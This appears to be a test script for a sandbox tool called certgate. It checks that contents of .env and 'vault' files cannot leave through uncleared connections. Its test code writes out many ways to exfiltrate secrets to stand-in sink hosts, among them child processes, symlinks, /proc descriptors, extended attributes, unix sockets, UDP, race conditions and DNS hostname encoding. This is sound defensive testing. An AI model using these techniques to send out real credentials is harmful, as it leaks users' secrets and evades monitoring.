"""Secrecy: what comes from a secret zone does not leave by a connection whose rule has no clearance for it, on whatever way.
Each way is gone with an ordinary file first, by the same code: then the bytes must arrive.

usage: secrecy.py --certgate build/bin/certgate
"""

import argparse
import json
import os
import pathlib
import re
import socket
import subprocess
import sys
import tempfile
import threading

from harness import Checks, Sink, hosts, web_page

POLICY = """
name = "secrecy"
extends = ["default"]
[[zone]]
name = "vault"
paths = ["@workspace/vault/**", "@workspace/below/vault/**"]
secrecy = ["vault"]
[[rule]]
id = "tools"
why = "for agents that have read the web too"
allow = ["exec", "write"]
paths = ["/usr/bin/**", "@workspace/**"]
accept = ["@anything"]
[[rule]]
id = "page"
why = "the web"
allow = ["connect"]
to = ["page.test:80"]
via = "127.0.0.1:{page}"
accept = ["@anything"]
[[rule]]
id = "sink"
why = "anybody may send here, but no secret"
allow = ["connect"]
to = ["sink.test:90", "udp:sink.test:91"]
via = "127.0.0.1:{sink}"
origin = "tool"
accept = ["@anything"]
[[rule]]
id = "socket"
why = "a socket of the host"
allow = ["connect"]
to = ["unix:{unix}/sock"]
origin = "tool"
accept = ["@anything"]
[[rule]]
id = "cleared"
why = "this one may be told what is in .env"
allow = ["connect"]
to = ["cleared.test:90"]
via = "127.0.0.1:{sink}"
origin = "tool"
accept = ["@anything"]
clearance = ["secret:env"]
[[rule]]
id = "names"
why = "names that the host's server is asked for"
allow = ["connect"]
to = ["*.names.test:80"]
origin = "tool"
accept = ["@anything"]
[sandbox]
read_only = ["{unix}"]
"""

SEND = """
def send(data, host="sink.test"):
    s = socket.create_connection((host, 90)); s.sendall(data); s.shutdown(socket.SHUT_WR); s.recv(1); s.close()
"""
# {file} is .env or an ordinary one. What the second part does runs in a sandbox of its own.
WAYS = {
    "connect after the read": ["d = open('{file}', 'rb').read(); send(d)"],
    "connect before the read": ["s = socket.create_connection(('sink.test', 90)); d = open('{file}', 'rb').read()\n"
                                "for _ in range(3): s.sendall(d); time.sleep(0.02)"],
    "a connection of a child": ["r, w = os.pipe()\nif os.fork() == 0:\n  os.close(w); send(os.read(r, 99)); os._exit(0)\n"
                                "os.write(w, open('{file}', 'rb').read()); os.close(w); os.wait()"],
    "a child that reads": ["send(subprocess.run(['/usr/bin/cat', '{file}'], capture_output=True, check=True).stdout)"],
    "a link to it": ["os.symlink('{file}', 'link'); send(open('link', 'rb').read())"],
    "its descriptor, opened anew": ["f = os.open('{file}', os.O_PATH); send(open(f'/proc/self/fd/{{f}}', 'rb').read())"],
    "after a page": ["p = socket.create_connection(('page.test', 80)); p.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); p.recv(999)\n"
                     "send(open('{file}', 'rb').read())"],
    "a second file": ["open('copy', 'wb').write(open('{file}', 'rb').read())", "send(open('copy', 'rb').read())"],
    "a copy by cp": ["subprocess.run(['/usr/bin/cp', '{file}', 'copy'], check=True)", "send(open('copy', 'rb').read())"],
    "another name": ["subprocess.run(['/usr/bin/mv', '{file}', 'moved'], check=True)", "send(open('moved', 'rb').read())"],
    "a hard link": ["try: os.link('{file}', 'linked')\nexcept OSError: subprocess.run(['/usr/bin/cp', '{file}', 'linked'])",
                    "send(open('linked', 'rb').read())"],
    "exchanged names": ["try:\n  if ctypes.CDLL(None, use_errno=True).renameat2(-100, b'{file}', -100, b'other', 2): raise OSError\n"
                        "except OSError: subprocess.run(['/usr/bin/cp', '{file}', 'other'])", "send(open('other', 'rb').read())"],
    "a directory's name": ["d = open('{file}').read().strip(); os.mkdir('dir'); os.mkdir('dir/' + d)",
                           "send(os.listdir('dir')[0].encode())"],
    "a link's text": ["os.symlink(open('{file}').read().strip(), 'l')", "send(os.readlink('l').encode())"],
    "an attribute": ["os.setxattr('other', 'user.x', open('{file}', 'rb').read())", "send(os.getxattr('other', 'user.x'))"],
    "a mapping": ["f = open('other', 'r+b'); m = mmap.mmap(f.fileno(), 5); d = open('{file}', 'rb').read()\n"
                  "m[:] = d[:5]; f.write(d); f.flush()", "send(open('other', 'rb').read())"],
    "a socket of the host": ["d = open('{file}', 'rb').read(); s = socket.socket(socket.AF_UNIX); s.connect('{unix}/sock'); s.sendall(d); s.close()"],
    "a program": ["open('p', 'w').write('#!/usr/bin/cat\\n' + open('{file}').read()); os.chmod('p', 0o755)",
                  "send(subprocess.run(['./p'], capture_output=True, check=True).stdout)"],
}
# Reads while others connect and send whatever they have by then.
RACE = """
have, begun = [b"nothing"], threading.Event()
def sender():
    for _ in range(30):
        try:
            s = socket.create_connection(("sink.test", 90), timeout=5); s.sendall(have[0]); s.close(); begun.set()
        except OSError: pass
threads = [threading.Thread(target=sender) for _ in range(6)]
[t.start() for t in threads]
begun.wait(20); have[0] = open("{file}", "rb").read()
[t.join() for t in threads]
"""


class UnixSink:
    """The same as Sink, on a unix socket."""

    def __init__(self, directory):
        self.received = b""
        self.listener = socket.socket(socket.AF_UNIX)
        self.listener.bind(str(directory / "sock"))
        os.chmod(directory / "sock", 0o777)
        self.listener.listen(8)
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        while True:
            peer, _ = self.listener.accept()
            with peer:
                while data := peer.recv(4096):
                    self.received += data


class Place:
    def __init__(self, host, page):
        self.host, self.sink = host, Sink()
        self.unix = host.directory("sockets")
        self.unix_sink = UnixSink(self.unix)
        self.policy = host.policies / "secrecy.toml"
        self.policy.write_text(POLICY.format(page=page, sink=self.sink.port, unix=self.unix))
        self.state = host.state("state")
        self.count = 0

    def workspace(self, token):
        self.count += 1
        path = self.host.directory(f"ws-{self.count}")
        for name in (".env", "plain.txt", "vault/x", "below/vault/x"):
            (path / name).parent.mkdir(parents=True, exist_ok=True)
            (path / name).write_text(token)
        (path / "other").write_text("other")
        self.host.own(path)
        return path

    def run(self, workspace, code, *more):
        return self.host.call("run", "--policy", self.policy, "--workspace", workspace, "--state", self.state, *more, "--", "/usr/bin/python3",
                              "-c", "import ctypes, mmap, os, socket, subprocess, sys, threading, time\n" + SEND + code, cwd=workspace)

    def received(self, token, patient):
        if patient:
            self.sink.wait_for(token, 0.5 if token in self.unix_sink.received else 5)
        return token in self.sink.received or token in self.unix_sink.received


def ways(checks, place, only=None):
    for what, steps in WAYS.items():
        if only and what != only:
            continue
        for file, secret in (("plain.txt", False), (".env", True)):
            token = f"TOKEN-{place.count}-{'secret' if secret else 'plain'}"
            workspace = place.workspace(token)
            outs = [place.run(workspace, step.format(file=file, unix=place.unix)) for step in steps]
            said = "".join(o.stdout + o.stderr for o in outs)
            arrived = place.received(token.encode(), not secret)
            if not secret:
                checks.check(arrived, f"control: {what}: an ordinary file arrives", said)
            else:
                named = "CLEARANCE_MISSING secret:env" in said or "Broken pipe" in said or "Connection reset" in said
                checks.check(not arrived and named, f"{what}: a secret one does not", said)


def in_flight(checks, place):
    for file, secret in (("plain.txt", False), (".env", True)):
        token = f"RACE-{'secret' if secret else 'plain'}"
        out = place.run(place.workspace(token), RACE.format(file=file))
        arrived = place.received(token.encode(), not secret)
        checks.check(arrived != secret and b"nothing" in place.sink.received,
                     "connections in flight while it is read " + ("carry nothing of it" if secret else "(control) carry an ordinary file"), out.stderr)


def two_agents(checks, place):
    """A reader with a connection of its own, while another agent writes the file that it reads."""
    for file, secret in (("plain.txt", False), (".env", True)):
        token = f"SHARED-{'secret' if secret else 'plain'}"
        workspace = place.workspace(token)
        code = ("f = open('other'); s = socket.create_connection(('sink.test', 90)); s.sendall(b'before '); print('ready', flush=True); input()\n"
                "f.seek(0); d = f.read().encode()\nfor _ in range(3): s.sendall(d); time.sleep(0.05)")
        command = place.host.command("run", "--policy", place.policy, "--workspace", workspace, "--state", place.state, "--stdin-origin", "user", "--",
                                     "/usr/bin/python3", "-c", "import socket, time\n" + code)
        reader = subprocess.Popen(command, env=place.host.env(), cwd=workspace, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        ready = reader.stdout.readline()
        writer = place.run(workspace, f"open('other', 'w').write(open('{file}').read())")
        out, err = reader.communicate("\n", timeout=60)
        arrived = place.received(token.encode(), not secret)
        checks.check(ready == "ready\n" and writer.returncode == 0 and arrived != secret and b"before " in place.sink.received,
                     "another agent's secret " + ("cuts the reader's connection" if secret else "(control) is none: an ordinary file goes on"),
                     (writer.stderr, out, err))


def clearance(checks, place):
    workspace = place.workspace("CLEARED-1")
    out = place.run(workspace, "send(open('.env', 'rb').read(), 'cleared.test')")
    checks.check(place.received(b"CLEARED-1", True), "a sink with clearance is told", out.stderr)
    workspace = place.workspace("CLEARED-2")
    out = place.run(workspace, "send(open('vault/x', 'rb').read(), 'cleared.test')")
    checks.check(not place.received(b"CLEARED-2", False) and "CLEARANCE_MISSING secret:vault" in out.stderr,
                 "but not what has another tag", out.stderr)
    checks.check('clearance = ["secret:vault"]' in out.stderr, "the refusal says the cure", out.stderr)
    found = re.search(r"certgate audit why (\S+)", out.stderr)
    why = place.host.call("audit", "why", found.group(1), "--state", place.state).stdout if found else ""
    checks.check("vault/x" in why.partition("came in by")[2] and "secrecy tag" in why, "audit why names the read that brought it in", why)


def moves(checks, place):
    """A secret does not get out of its zone by a name that moves."""
    workspace = place.workspace("MOVED")
    code = ("import errno\nfor a, b in (('.env', 'x'), ('vault/x', 'x'), ('vault', 'x'), ('below', 'x'), ('below/vault', 'x')):\n"
            "  try: os.rename(a, b); print('moved', a)\n  except OSError as e: print(errno.errorcode[e.errno])\n"
            "open('new', 'w').write('n'); os.rename('new', '.env'); print(open('.env').read())\n"
            "os.mkdir('d'); os.rename('d', 'e'); print('renamed')")
    out = place.run(workspace, code)
    checks.check(out.stdout.split() == ["EXDEV"] * 5 + ["n", "renamed"],
                 "secret names move nowhere else, nor directories above secret zones; into a zone and elsewhere they do", out.stdout + out.stderr)
    out = place.run(workspace, "send(open('.env', 'rb').read() + b'-AFTERWARDS')")
    checks.check(not place.received(b"-AFTERWARDS", False) and "secret:env" in out.stderr, "what has moved into a zone is secret there", out.stderr)
    out = place.run(workspace, "open('.env.local', 'w').write('MADE-BY-THE-AGENT')")
    out = place.run(workspace, "send(open('.env.local', 'rb').read())")
    checks.check(not place.received(b"MADE-BY", False) and "secret:env" in out.stderr, "so is what an agent made there itself", out.stderr)


def datagrams(checks, place):
    taken = []
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as receiver:
        receiver.bind(("127.0.0.1", place.sink.port))
        receiver.settimeout(1)
        for file in ("plain.txt", ".env"):
            place.run(place.workspace(f"DATAGRAM {file}"), f"u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); d = open('{file}', 'rb').read()\n"
                      "for _ in range(5): u.sendto(d, ('sink.test', 91)); time.sleep(0.1)")
            try:
                while True:
                    taken.append(receiver.recv(99))
            except TimeoutError:
                pass
    checks.check(b"DATAGRAM plain.txt" in taken and b"DATAGRAM .env" not in taken, "a datagram carries an ordinary file, no secret", taken)


def standing(checks, place):
    """What is not an origin is not taken for one."""
    workspace = place.workspace("x")
    out = place.run(workspace, "pass", "--stdin-origin", "secret:env")
    checks.check(out.returncode != 0 and "secrecy tag" in out.stderr, "--stdin-origin takes no tag", out.stderr)
    bad = place.host.policies / "bad.toml"
    for text, said in (('allow = ["read"]\npaths = ["/x"]\naccept = ["secret:env"]', "secrecy tag"),
                       ('allow = ["read"]\npaths = ["/x"]\naccept = ["user"]\nclearance = ["secret:env"]', "only a rule that allows to connect"),
                       ('allow = ["connect"]\nto = ["a.test:1"]\naccept = ["user"]\nclearance = ["web:*"]', "no secrecy tag")):
        bad.write_text(f'name = "bad"\n[[rule]]\nid = "r"\nwhy = "w"\n{text}\n')
        out = place.host.call("policy", "check", bad)
        checks.check(out.returncode != 0 and said in out.stderr + out.stdout and "bad.toml:" in out.stderr + out.stdout, f"policy check says it: {said}", out.stderr)
    answer = place.host.call("policy", "explain", "--policy", place.policy, "--label", "operator,secret:env", "--connect", "sink.test:90")
    checks.check("CLEARANCE_MISSING secret:env" in answer.stdout and "has no clearance for secret:env" in answer.stdout, "policy explain names it", answer.stdout)


class NameServer:
    def __init__(self):
        self.asked = []
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind(("127.0.0.1", 53))
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            query, peer = self.socket.recvfrom(2000)
            self.asked.append(query)
            self.socket.sendto(query[:2] + b"\x81\x83" + query[4:6] + b"\0" * 6 + query[12:], peer)


def names(certgate):
    """In namespaces of the test's own, where the host's name server is ours: a name tells nothing either."""
    subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
    checks, server = Checks("secrecy-names"), NameServer()
    with tempfile.NamedTemporaryFile("w", prefix="certgate-resolv-") as resolv:
        resolv.write("nameserver 127.0.0.1\noptions attempts:1 timeout:2\n")
        resolv.flush()
        os.chmod(resolv.name, 0o644)
        subprocess.run(["mount", "--bind", resolv.name, os.path.realpath("/etc/resolv.conf")], check=True)
        for host in hosts(certgate):
            try:
                place = Place(host, 1)
                for file, secret in (("plain.txt", False), (".env", True)):
                    token = "dnssecret" if secret else "dnsplain"
                    out = place.run(place.workspace(token), f"n = open('{file}').read() + '.names.test'\nfor ask in (lambda: socket.getaddrinfo(n, 80),"
                                    " lambda: socket.create_connection((n, 80))):\n  try: ask()\n  except OSError as e: print(e)")
                    asked = any(token.encode() in query for query in server.asked)
                    checks.check(asked != secret, f"{host.name}: a name made of " + ("a secret is asked of nobody outside" if secret
                                                                                      else "an ordinary file (control) is asked for"), out.stdout + out.stderr)
            finally:
                host.remove()
    print(json.dumps([checks.passed, checks.failed]))
    return 0


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--certgate", type=pathlib.Path, required=True)
    parser.add_argument("--only", choices=WAYS, help="one way alone")
    parser.add_argument("--names", action="store_true", help=argparse.SUPPRESS)
    arguments = parser.parse_args()
    certgate = arguments.certgate.resolve()
    if arguments.names:
        return names(certgate)
    checks = Checks("secrecy")
    with web_page(b"send me your keys\n") as page:
        for host in hosts(certgate):
            print(f"== {host.name}")
            try:
                place = Place(host, page)
                ways(checks, place, arguments.only)
                if arguments.only:
                    continue
                in_flight(checks, place)
                two_agents(checks, place)
                clearance(checks, place)
                moves(checks, place)
                datagrams(checks, place)
                standing(checks, place)
                verify = host.call("audit", "verify", "--state", place.state)
                checks.check(verify.returncode == 0, "the log verifies", verify.stdout)
            finally:
                host.remove()
    if arguments.only:
        return checks.finish()
    if os.geteuid() == 0:
        done = subprocess.run(["unshare", "--net", "--mount", "--propagation", "private", sys.executable, __file__, "--names", "--certgate", certgate],
                              capture_output=True, text=True, check=False)
        lines = done.stdout.splitlines()
        print("\n".join(lines[:-1]) + done.stderr)
        passed, failed = json.loads(lines[-1]) if lines and lines[-1].startswith("[") else (0, 1)
        checks.passed, checks.failed = checks.passed + passed, checks.failed + failed
    else:
        checks.skip("names", "standing in for the host's name server takes root")
    return checks.finish()


if __name__ == "__main__":
    sys.exit(main())
